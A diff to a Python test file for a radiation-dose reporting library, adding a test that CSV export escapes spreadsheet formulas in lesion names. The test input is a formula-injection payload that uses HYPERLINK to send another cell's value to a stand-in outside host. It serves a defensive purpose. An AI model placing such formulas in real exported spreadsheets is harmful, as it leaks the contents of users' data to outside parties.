@@ -4,6 +4,7 @@ import io
 
 import pytest
 
+from sirtjax.io import plain_cell
 from sirtjax.reports import voi_csv
 
 
@@ -39,3 +40,12 @@ def test_a_number_that_is_none_is_empty(result):
     odd = dataclasses.replace(result.vois[0], mean_gy=float("nan"), max_gy=float("inf"))
     row = rows_of(voi_csv(dataclasses.replace(result, vois=(odd,))))[0]
     assert row["mean_gy"] == row["max_gy"] == ""
+
+
+def test_names_are_no_formulas_and_numbers_stay_numbers(result):
+    name = '=HYPERLINK("http://example.org/?a="&A2,"lesion 1")'
+    harmful = dataclasses.replace(result.vois[3], name=name, territory="+right", mean_gy=-1.25)
+    rows = rows_of(voi_csv(dataclasses.replace(result, vois=(harmful,))))
+    (row,) = rows
+    assert (row["name"], row["territory"], row["mean_gy"]) == (f"'{name}", "'+right", "-1.25")
+    assert plain_cell(row["name"]) == name
